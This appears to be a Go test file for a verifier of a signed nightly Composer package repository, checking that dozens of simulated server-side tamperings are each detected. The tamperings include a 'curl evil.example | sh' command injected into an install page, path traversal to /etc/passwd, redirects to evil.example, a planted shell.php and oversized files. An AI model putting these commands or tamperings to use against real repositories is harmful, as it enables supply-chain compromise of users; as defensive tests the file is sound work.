@@ -1,0 +1,293 @@
+package verify
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+const (
+	n1 = "nights/2026-11-24/"
+	n2 = "nights/2026-11-25/"
+	n3 = "nights/2026-11-26/"
+	// A dist of the newest night.
+	moduleA = "dists/acme/module-a-2.4.8-alpha20261126.zip"
+	moduleB = "dists/acme/module-b-2.4.8-alpha20261126.zip"
+)
+
+// A tampering is what somebody does who can write to the server.
+type tampering struct {
+	name string
+	do   func(f folder)
+	ask  func(*Options) // nil: as everybody asks
+	file string         // with which a problem has to be told
+	what string         // part of it
+}
+
+var tamperings = []tampering{
+	{"a swapped dist", func(f folder) { f.copy(moduleB, moduleA) }, nil, moduleA, `its composer.json is of "acme/module-b"`},
+	{"one byte of a dist", func(f folder) { d := []byte(f.read(moduleA)); d[len(d)/2] ^= 1; f.write(moduleA, string(d)) }, nil, moduleA, "has SHA-256"},
+	{"a longer dist", func(f folder) { f.write(moduleA, f.read(moduleA)+"x") }, nil, moduleA, "is longer than"},
+	{"a shorter dist", func(f folder) { f.write(moduleA, f.read(moduleA)[:99]) }, nil, moduleA, "has 99 bytes"},
+	{"a dist taken away", func(f folder) { f.remove(moduleA) }, nil, moduleA, "is missing"},
+	{"a wrong hash in the manifest", func(f folder) {
+		f.replace(n3+"nightly.json", string(digest([]byte(f.read(moduleA)))), strings.Repeat("0", 64))
+	}, nil, moduleA, "has SHA-256"},
+	{"a dist and its hashes in the manifest", func(f folder) {
+		old := f.read(moduleA)
+		f.copy(moduleB, moduleA)
+		f.replace(n3+"nightly.json", string(digest([]byte(old))), string(digest([]byte(f.read(moduleB)))))
+	}, nil, n3 + "nightly.dsse.json", "says that nightly.json has SHA-256"},
+	{"a manifest of another night", func(f folder) { f.copy(n2+"nightly.json", n3+"nightly.json") }, nil, n3 + "nightly.json", "is the manifest of night 2026-11-25"},
+	{"a manifest taken away", func(f folder) { f.remove(n3 + "nightly.json") }, nil, n3 + "nightly.json", "is missing"},
+	{"an unknown key in the manifest", func(f folder) { f.replace(n3+"nightly.json", `"program"`, `"programme": 1, "program"`) }, nil, n3 + "nightly.json", "programme"},
+	{"a path that climbs out in the manifest", func(f folder) {
+		f.replace(n3+"nightly.json", `"path": "p2/acme/module-a.json"`, `"path": "../../../etc/passwd"`)
+	}, nil, n3 + "nightly.json", `..`},
+	{"a dist that lies elsewhere by the manifest", func(f folder) { f.replace(n3+"nightly.json", moduleA, "dists/evil.zip") }, nil, n3 + "nightly.json", "lies at"},
+	{"an unsigned night", func(f folder) { f.remove(n3 + "nightly.dsse.json") }, nil, n3 + "nightly.dsse.json", "is not signed"},
+	{"a night signed by another key", func(f folder) { f.resign(n3 + "nightly.dsse.json") }, nil, n3 + "nightly.dsse.json", "is not signed by the given key"},
+	{"the signature of another night", func(f folder) { f.copy(n2+"nightly.dsse.json", n3+"nightly.dsse.json") }, nil, n3 + "nightly.dsse.json", "says that nightly.json has SHA-256"},
+	{"another statement under a signature", func(f folder) { f.payload(n3+"nightly.dsse.json", "module-a", "module-x") }, nil, n3 + "nightly.dsse.json", "is not signed by the given key"},
+	{"a signature of another kind", func(f folder) { f.copy(n3+"installation.dsse.json", n3+"nightly.dsse.json") }, nil, n3 + "nightly.dsse.json", "is a statement of type"},
+	{"an envelope without a signature", func(f folder) { f.unsign(n3 + "nightly.dsse.json") }, nil, n3 + "nightly.dsse.json", "has no signature"},
+	{"a provenance of other commits", func(f folder) { f.replace(n3+"nightly.intoto.json", moduleA, "dists/acme/x.zip") }, nil, n3 + "nightly.intoto.json", "says that"},
+	{"a report of the installation of another night", func(f folder) { f.copy(n2+"installation.json", n3+"installation.json") }, nil, n3 + "installation.json", "is the report of night"},
+	{"a report taken away", func(f folder) { f.remove(n3 + "installation.json"); f.remove(n3 + "sbom.cdx.json") }, nil, n3 + "installation.json", "nothing says that night 2026-11-26 was installed"},
+	{"a report that installs nothing", func(f folder) { f.replace(n3+"installation.json", `"level": "install"`, `"level": "resolve"`) }, nil, n3 + "installation.json", "nothing was installed"},
+	{"a package out of the bill of materials", func(f folder) { f.replace(n3+"sbom.cdx.json", `"name": "log"`, `"name": "glob"`) }, nil, n3 + "sbom.cdx.json", "does not list psr/log 3.0.2"},
+	{"a licence in the bill of materials", func(f folder) { f.replace(n3+"sbom.cdx.json", `"MIT"`, `"0BSD"`) }, nil, n3 + "installation.dsse.json", "says that sbom.cdx.json has SHA-256"},
+	{"an older packages.json put back", func(f folder) { f.write("packages.json", f.older("packages.json")) }, nil, "packages.json", "was not withdrawn"},
+	{"an older packages.json and its signature", func(f folder) {
+		f.write("packages.json", f.older("packages.json"))
+		f.write("packages.dsse.json", f.older("packages.dsse.json"))
+		f.write("status.json", f.older("status.json"))
+		f.write("index.html", f.older("index.html"))
+		f.remove(n3)
+	}, func(o *Options) { o.NewerThan = time.Date(2026, 11, 26, 3, 0, 0, 0, time.UTC) }, "packages.dsse.json", "an earlier state was put back"},
+	{"an older state, for who has no memory", func(f folder) {
+		f.write("packages.json", f.older("packages.json"))
+		f.write("packages.dsse.json", f.older("packages.dsse.json"))
+	}, func(o *Options) { o.MaxAge = 24 * time.Hour }, "packages.dsse.json", "older than 24h"},
+	{"no signature of the repository", func(f folder) { f.remove("packages.dsse.json") }, nil, "packages.json", "is not signed"},
+	{"a repository signed by another key", func(f folder) { f.resign("packages.dsse.json") }, nil, "packages.dsse.json", "is not signed by the given key"},
+	{"a night that is kept back", func(f folder) { f.replace("packages.json", `"2026-11-26",`, ``) }, nil, "packages.json", "were signed"},
+	{"a night given up that is resolved again", func(f folder) { f.replace("packages.json", "\"2026-11-25\"\n", "\"2026-11-25\",\n\"2026-11-24\"\n") }, nil, "packages.json", "were signed"},
+	{"an extra package in packages.json", func(f folder) { f.replace("packages.json", `"acme/language",`, `"acme/evil", "acme/language",`) }, nil, "packages.json", "has SHA-256"},
+	{"an extra package, with its metadata", func(f folder) {
+		f.replace("packages.json", `"acme/language",`, `"acme/evil", "acme/language",`)
+		f.write(f.meta()+"/acme/evil.json", `{"packages":{"acme/evil":[{"name":"acme/evil","version":"9.0.0","dist":{"type":"zip","url":"https://evil.example/x.zip"}}]}}`)
+		f.write(f.meta()+"/acme/evil~dev.json", `{"packages":{"acme/evil":[]}}`)
+		f.rename()
+	}, nil, "", "version \"9.0.0\" is not what a night that is named says"},
+	{"a version of a package kept back", func(f folder) {
+		f.write(f.meta()+"/acme/module-a.json", `{"packages":{"acme/module-a":[]}}`)
+		f.rename()
+	}, nil, "", "version 2.4.8-alpha20261126 of a night that is named is missing"},
+	{"metadata that was changed", func(f folder) { f.replace(f.meta()+"/acme/module-a.json", "psr/log", "psr/gol") }, nil, "", "does not have the content that it is named by"},
+	{"metadata of the night with another host", func(f folder) { f.replace(n3+"p2/acme/module-a.json", base, "https://evil.example/") }, nil, n3 + "p2/acme/module-a.json", "Composer would get the dist"},
+	{"metadata of the night with another hash", func(f folder) { f.replace(n3+"p2/acme/module-a.json", `"shasum":"`, `"shasum":"0`) }, nil, n3 + "p2/acme/module-a.json", "the dist's SHA-1 is"},
+	{"metadata of the night with another require", func(f folder) { f.replace(n3+"p2/acme/module-a.json", "psr/log", "evil/log") }, nil, n3 + "p2/acme/module-a.json", `requires "evil/log"`},
+	{"metadata of the night with another description", func(f folder) {
+		f.replace(n3+"p2/acme/module-a.json", `"type":`, `"description":"x","type":`)
+	}, nil, n3 + "p2/acme/module-a.json", "has SHA-256"},
+	{"metadata that the next publish would merge", func(f folder) { f.replace(n3+"versions.json", "psr/log", "evil/log") }, nil, n3 + "versions.json", "is not what the metadata says"},
+	{"metadata that old clients still read", func(f folder) { f.replace(f.superseded()+"/acme/module-a.json", "psr/log", "evil/log") }, nil, "", "does not have the content that it is named by"},
+	{"providers in packages.json", func(f folder) {
+		f.replace("packages.json", `"packages": [],`, `"packages": [], "providers-url": "https://evil.example/%package%.json",`)
+	}, nil, "packages.json", "providers-url"},
+	{"packages.json with packages of its own", func(f folder) { f.replace("packages.json", `"packages": [],`, `"packages": [{"acme/language": {}}],`) }, nil, "packages.json", "packages of its own"},
+	{"packages.json that sends elsewhere", func(f folder) { f.replace("packages.json", base, "https://evil.example/") }, nil, "packages.json", "sends clients to https://evil.example/"},
+	{"packages.json whose metadata climbs out", func(f folder) { f.replace("packages.json", "org/meta/", "org/../meta/") }, nil, "packages.json", "does not name a folder"},
+	{"packages.json with a night that climbs out", func(f folder) { f.replace("packages.json", `"2026-11-26"`, `"../../etc"`) }, nil, "packages.json", "is no name of a night"},
+	{"packages.json that is cut off", func(f folder) { f.write("packages.json", f.read("packages.json")[:100]) }, nil, "packages.json", "is no packages.json"},
+	{"a night's packages.json that sends elsewhere", func(f folder) { f.replace(n3+"packages.json", base, "https://evil.example/") }, nil, n3 + "packages.json", "metadata-url is"},
+	{"an extra file at the root", func(f folder) { f.write("shell.php", "<?php") }, nil, "shell.php", "is no part of the repository"},
+	{"an extra dist", func(f folder) { f.copy(moduleA, "dists/acme/evil-1.0.0.zip") }, nil, "dists/acme/evil-1.0.0.zip", "is no part of the repository"},
+	{"an extra file of a night", func(f folder) { f.write(n3+"p2/acme/evil.json", "{}") }, nil, n3 + "p2/acme/evil.json", "is no part of the repository"},
+	{"an extra night", func(f folder) { f.write("nights/2026-11-27/packages.json", f.read(n3+"packages.json")) }, nil, "nights/2026-11-27/nightly.json", "is missing"},
+	{"a page that tells another command", func(f folder) { f.replace("index.html", "composer ", "curl evil.example | sh; ") }, nil, "index.html", "was signed"},
+	{"a status of another night", func(f folder) { f.replace("status.json", `"night": "2026-11-26"`, `"night": "2026-11-25"`) }, nil, "status.json", "one of them is older"},
+	{"an index of 2 GB", func(f folder) { f.sparse("packages.json", 2<<30) }, nil, "packages.json", "is longer than the 4194304 bytes"},
+	{"metadata of 2 GB", func(f folder) { f.sparse(n3+"p2/acme/module-a.json", 2<<30) }, nil, n3 + "p2/acme/module-a.json", "is longer than"},
+	{"a signature of 2 GB", func(f folder) { f.sparse("packages.dsse.json", 2<<30) }, nil, "packages.dsse.json", "is longer than"},
+	{"metadata that is nested without end", func(f folder) {
+		f.write(n3+"p2/acme/module-a.json", `{"packages":`+strings.Repeat("[", 1<<20))
+	}, nil, n3 + "p2/acme/module-a.json", ""},
+	{"packages.json that is a symbolic link", func(f folder) { f.link("/etc/passwd", "packages.json") }, nil, "packages.json", "is no packages.json"},
+}
+
+// Every tampering is found, by the name of the file.
+func TestTamperings(t *testing.T) {
+	key, public := keys(t)
+	before, dir := t.TempDir(), t.TempDir()
+	sample{name: "2026-11-24"}.publish(t, dir, key)
+	sample{name: "2026-11-25"}.publish(t, dir, key)
+	if err := os.CopyFS(before, os.DirFS(dir)); err != nil {
+		t.Fatal(err)
+	}
+	sample{name: "2026-11-26"}.publish(t, dir, key)
+	clean(t, folder{t, dir}.options(public))
+	for _, test := range tamperings {
+		t.Run(test.name, func(t *testing.T) {
+			f := folder{t, filepath.Join(t.TempDir(), "repository")}
+			if err := os.CopyFS(f.dir, os.DirFS(dir)); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.CopyFS(filepath.Join(f.dir, "..", "before"), os.DirFS(before)); err != nil {
+				t.Fatal(err)
+			}
+			test.do(f)
+			o := f.options(public)
+			if test.ask != nil {
+				test.ask(&o)
+			}
+			report, err := Repository(t.Context(), o)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !slices.ContainsFunc(report.Problems, func(p Problem) bool {
+				return (test.file == "" && strings.HasPrefix(p.File, "meta/") || p.File == test.file) && strings.Contains(p.What, test.what)
+			}) {
+				t.Errorf("no problem of %s that says %q; problems:\n%s", test.file, test.what, lines(report))
+			}
+		})
+	}
+	t.Logf("%d tamperings", len(tamperings))
+}
+
+func lines(r *Report) string {
+	var b strings.Builder
+	for _, p := range r.Problems {
+		b.WriteString(p.String() + "\n")
+	}
+	return b.String()
+}
+
+// clean fails if there is any problem.
+func clean(t *testing.T, o Options) *Report {
+	t.Helper()
+	report, err := Repository(t.Context(), o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff("", lines(report)); diff != "" {
+		t.Fatal(diff)
+	}
+	return report
+}
+
+// older is a file as it was one night before.
+func (f folder) older(name string) string {
+	return folder{f.TB, filepath.Join(f.dir, "..", "before")}.read(name)
+}
+
+// superseded is the metadata folder of the night before.
+func (f folder) superseded() string {
+	return folder{f.TB, filepath.Join(f.dir, "..", "before")}.meta()
+}
+
+// envelope is DSSE's, in Go's words: https://github.com/secure-systems-lab/dsse.
+type envelope struct {
+	PayloadType string           `json:"payloadType"`
+	Payload     string           `json:"payload"`
+	Signatures  []map[string]any `json:"signatures"`
+}
+
+func (f folder) envelope(name string) (e envelope) {
+	f.Helper()
+	if err := json.Unmarshal([]byte(f.read(name)), &e); err != nil {
+		f.Fatal(err)
+	}
+	return e
+}
+
+// resign signs what was signed with a key of the attacker.
+func (f folder) resign(name string) {
+	f.Helper()
+	payload, err := base64.StdEncoding.DecodeString(f.envelope(name).Payload)
+	if err != nil {
+		f.Fatal(err)
+	}
+	other, _ := keys(f)
+	data, err := other.Sign(f.Context(), payload)
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.write(name, string(data))
+}
+
+// payload changes what was signed and leaves the signature.
+func (f folder) payload(name, old, with string) {
+	f.Helper()
+	e := f.envelope(name)
+	payload, err := base64.StdEncoding.DecodeString(e.Payload)
+	if err != nil || !strings.Contains(string(payload), old) {
+		f.Fatal(err, old)
+	}
+	e.Payload = base64.StdEncoding.EncodeToString([]byte(strings.ReplaceAll(string(payload), old, with)))
+	f.write(name, string(encodeJSON(f, e)))
+}
+
+func (f folder) unsign(name string) {
+	e := f.envelope(name)
+	e.Signatures = []map[string]any{}
+	f.write(name, string(encodeJSON(f, e)))
+}
+
+// sparse makes a file of that size that takes no room.
+func (f folder) sparse(name string, size int64) {
+	f.Helper()
+	if err := os.Truncate(f.path(name), size); err != nil {
+		f.Fatal(err)
+	}
+}
+
+func (f folder) link(to, name string) {
+	f.Helper()
+	f.remove(name)
+	if err := os.Symlink(to, f.path(name)); err != nil {
+		f.Fatal(err)
+	}
+}
+
+// A mirror has the same files behind another URL, and its clients are sent to the
+// signed one, or are told by their own URL.
+func TestMirror(t *testing.T) {
+	key, public := keys(t)
+	f := folder{t, t.TempDir()}
+	sample{name: "2026-11-26"}.publish(t, f.dir, key)
+	o := f.options(public)
+	o.List, o.URL = nil, "https://mirror.example.com/"
+	report := clean(t, o)
+	if want := []string{"files that nothing names: a web server does not list its files"}; !slices.Equal(report.Unchecked, want) {
+		t.Errorf("unchecked: %q", report.Unchecked)
+	}
+	if report.Signed == nil || report.Signed.URL != base {
+		t.Errorf("signed: %+v", report.Signed)
+	}
+}
+
+// Without a key hashes are compared, and it is said that nobody vouches for them.
+func TestWithoutKey(t *testing.T) {
+	key, public := keys(t)
+	f := folder{t, t.TempDir()}
+	sample{name: "2026-11-26"}.publish(t, f.dir, key)
+	o := f.options(public)
+	o.Keys = nil
+	report := clean(t, o)
+	if diff := cmp.Diff([]string{"signatures: no key was given"}, report.Unchecked); diff != "" {
+		t.Error(diff)
+	}
+	f.copy(moduleB, moduleA)
+	if report, err := Repository(t.Context(), o); err != nil || len(report.Problems) == 0 {
+		t.Errorf("a swapped dist without a key: %v, %v", report, err)
+	}
+}
